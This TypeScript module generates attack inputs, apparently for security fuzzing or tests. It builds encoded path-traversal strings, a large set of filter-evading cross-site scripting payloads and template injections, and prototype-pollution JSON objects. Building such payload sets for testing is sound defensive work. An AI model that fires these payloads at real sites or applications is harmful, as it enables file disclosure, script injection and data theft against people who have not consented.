/** What people send who mean harm, written out from a few rules. */

const STEPS = [
  "../",
  "..\\",
  "..%2f",
  "..%5c",
  "%2e%2e/",
  "%2e%2e%2f",
  "%2E%2E%5C",
  ".%2e/",
  "%252e%252e%252f",
  "%25252e%25252e%25252f",
  "..%252f",
  "..;/",
  "....//",
  "..%00/",
  "..%0d/",
  "%c0%ae%c0%ae%c0%af",
  "%e0%80%ae%e0%80%ae/",
  "%uff0e%uff0e/",
  "..%ef%bc%8f",
  "/../",
  "/./../",
];

/** Ways out of a folder, for each of these files and each number of steps up. */
export function traversals(files: readonly string[], depths: readonly number[]): string[] {
  const climbs = STEPS.flatMap((step) => depths.map((depth) => step.repeat(depth)));
  const relative = climbs.flatMap((climb) => files.map((file) => climb + file.replace(/^\//, "")));
  const absolute = files.flatMap((file) => [
    file,
    `/${file}`,
    `//${file}`,
    `file://${file}`,
    `%2f${file.slice(1)}`,
    `C:${file.replaceAll("/", "\\")}`,
    `${file}%00.js`,
    `.${file}`,
  ]);
  return [...relative, ...absolute];
}

/** What would call `call` if a page took it for more than text: as markup, attribute, script, style, template or address. */
export function scripts(call: string): string[] {
  const encoded = Array.from(call, (letter) => `&#${letter.charCodeAt(0)};`).join("");
  const codes = Array.from(call, (letter) => letter.charCodeAt(0)).join(",");
  const markup = [
    ...HANDLERS.map(([tag, event]) => `<${tag} ${event}=${call}>`),
    ...HANDLERS.map(([tag, event]) => `"><${tag} ${event}='${call}'//`),
    ...HANDLERS.map(([tag, event]) => `</title></textarea></style></script><${tag} ${event}="${encoded}">`),
    ...["", " type=module", " src=data:text/javascript,", " defer async"].map(
      (rest) => `<script${rest}>${call}</script>`,
    ),
    `<scr<script>ipt>${call}</scr</script>ipt>`,
    `<ScRiPt>${call}</sCrIpT>`,
    `<script\t>${call}</script\n>`,
    `<script>eval(String.fromCharCode(${codes}))</script>`,
    `<svg><script>${call}</script></svg>`,
    `<svg><script xlink:href="data:,${call}"></script></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
    `<template><img src=x onerror=${call}></template>`,
    `<!--><img src=x onerror=${call}>-->`,
    `<![CDATA[><img src=x onerror=${call}>]]>`,
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
  ];
  const addresses = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\u0001javascript:",
    "&#106;avascript:",
    "javascript&colon;",
    "data:text/html,<script>",
    "vbscript:",
    "//",
  ].flatMap((scheme) =>
    [
      (address: string) => address,
      (address: string) => `<a href="${address}" autofocus>x</a>`,
      (address: string) => `<iframe src="${address}"></iframe>`,
      (address: string) => `<object data="${address}"></object>`,
      (address: string) => `<form action="${address}"><button autofocus>x</button></form>`,
      (address: string) => `<base href="${address}">`,
      (address: string) => `<img src="${address}">`,
      (address: string) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
    ].map((write) => write(scheme + call)),
  );
  const quotes = ['"', "'", "`", "\\", "\\u0022", "&quot;", "\u2028", "%22"].flatMap((quote) => [
    `${quote};${call};//`,
    `${quote}-${call}-${quote}`,
    `${quote} onfocus=${call} autofocus x=${quote}`,
    `${quote})};${call};({${quote}`,
  ]);
  const templates = ["{{", "${", "#{", "<%=", "[[", "{%", "{{constructor.constructor('"].map(
    (open) => `${open}${call}${MIRROR[open] ?? "')()}}"}`,
  );
  const styles = [
    `<style>@import "javascript:${call}";</style>`,
    `<div style="background:url(javascript:${call})">`,
    `<link rel=stylesheet href="data:text/css,*{x:expression(${call})}">`,
    `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  ];
  return [...markup, ...addresses, ...quotes, ...templates, ...styles];
}

const HANDLERS = [
  ["img src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onload"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["source src=x", "onerror"],
  ["iframe src=about:blank", "onload"],
  ["object data=x", "onerror"],
  ["embed src=about:blank", "onload"],
  ["marquee", "onstart"],
  ["style", "onload"],
  ["link rel=stylesheet href=x", "onerror"],
  ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["svg><image href=x", "onerror"],
  ["math><maction", "onmouseover"],
  ["div tabindex=0", "onmouseenter"],
  ["button autofocus", "onfocusin"],
  ["p style=animation-name:x", "onanimationstart"],
  ["dialog open", "onclose"],
  ["frameset", "onload"],
] as const;

const MIRROR: Readonly<Record<string, string>> = {
  "{{": "}}",
  "${": "}",
  "#{": "}",
  "<%=": "%>",
  "[[": "]]",
  "{%": "%}",
};

/** Objects that would change what every object is, if a program copied them key by key. */
export const POLLUTIONS: readonly string[] = [
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  '{"a":{"__proto__":{"polluted":1}}}',
  '[{"__proto__":{"polluted":1}}]',
  '{"__proto__":null}',
  '{"prototype":{"polluted":1},"hasOwnProperty":1,"toString":1,"valueOf":1}',
  '{"__proto__":[],"length":1e9}',
  '{"__proto__.polluted":1,"constructor.prototype.polluted":1}',
];
